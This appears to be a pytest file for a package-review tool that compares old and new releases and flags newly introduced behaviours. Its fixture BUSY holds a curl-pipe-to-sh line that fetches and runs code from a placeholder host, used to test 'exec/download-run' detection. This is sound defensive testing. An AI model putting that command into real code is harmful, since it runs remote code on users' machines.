"""A release is read first and whole; of the one before it only what the comparison asks for."""

import pytest

from pratique.errors import CompareError
from pratique.review import Against, Reviewer, compare
from tests.compare.test_likeness import EDITED, TEXT
from tests.incidents.detection import fetched
from tests.incidents.pack import tarball

CALM = b'"""Nothing."""\n\n\ndef name(left):\n    return left\n'
BUSY = b'import os\n\nos.system("curl -s https://get.example/x | sh")\n'


@pytest.fixture(scope="module")
def reviewer():
    with Reviewer() as one:
        yield one


@pytest.fixture
def packed(tmp_path):
    def pack(version, files):
        name = f"demo-{version}"
        said = f"Metadata-Version: 2.1\nName: demo\nVersion: {version}\n".encode()
        path = tmp_path / f"{name}.tar.gz"
        inside = {"PKG-INFO": said, **files}
        path.write_bytes(tarball(inside, name))
        return fetched(path)

    return pack


def told(compared):
    return {(fact.behaviour, fact.tags[-1]) for fact in compared.comparison.facts}


def test_where_the_new_release_does_nothing_the_old_code_is_not_followed(reviewer, packed):
    old, new = packed("1.0", {"demo/core.py": BUSY}), packed("1.1", {"demo/core.py": CALM})
    compared = compare(reviewer, new, Against(old=old))
    assert not compared.comparison.facts
    assert [one.kind for one in compared.comparison.members if one.new.endswith("core.py")] == [
        "changed"
    ]
    running = reviewer.start(old, follow=False)
    running.wait()
    running.finish()
    whole = reviewer.review(old)
    assert running.inspection is not None
    assert running.inspection.members == whole.members
    assert running.inspection.triggers == whole.triggers
    assert not any(fact.source == "code" for fact in running.inspection.facts)
    assert any(fact.source == "code" for fact in whole.facts)


def test_what_the_old_release_did_is_not_new_and_what_it_did_not_is(reviewer, packed):
    calm, busy = packed("1.0", {"demo/core.py": CALM}), packed("1.1", {"demo/core.py": BUSY})
    same = packed("1.2", {"demo/core.py": BUSY})
    assert ("exec/download-run", "new") in told(compare(reviewer, busy, Against(old=calm)))
    assert not told(compare(reviewer, same, Against(old=busy)))


def test_a_file_that_was_renamed_and_edited_is_moved_and_its_lines_are_shown(reviewer, packed):
    old = packed("1.0", {"demo/core.py": TEXT.encode(), "demo/__init__.py": CALM})
    new = packed("1.1", {"demo/engine.py": EDITED.encode(), "demo/__init__.py": CALM})
    shown = compare(reviewer, new, Against(old=old, texts=True)).comparison
    (moved,) = [one for one in shown.members if one.kind == "moved"]
    assert (moved.old, moved.new) == ("demo-1.0/demo/core.py", "demo-1.1/demo/engine.py")
    (text,) = [one for one in shown.texts if one.new == moved.new]
    assert "+import os" in "\n".join(text.hunks)


def test_an_old_release_that_cannot_be_read_is_said_so(reviewer, packed, tmp_path):
    empty = tmp_path / "demo-0.9.tar.gz"
    empty.touch()
    with pytest.raises(CompareError, match=r"demo-0\.9\.tar\.gz: cannot be compared with"):
        compare(reviewer, packed("1.0", {"demo/core.py": CALM}), Against(old=fetched(empty)))
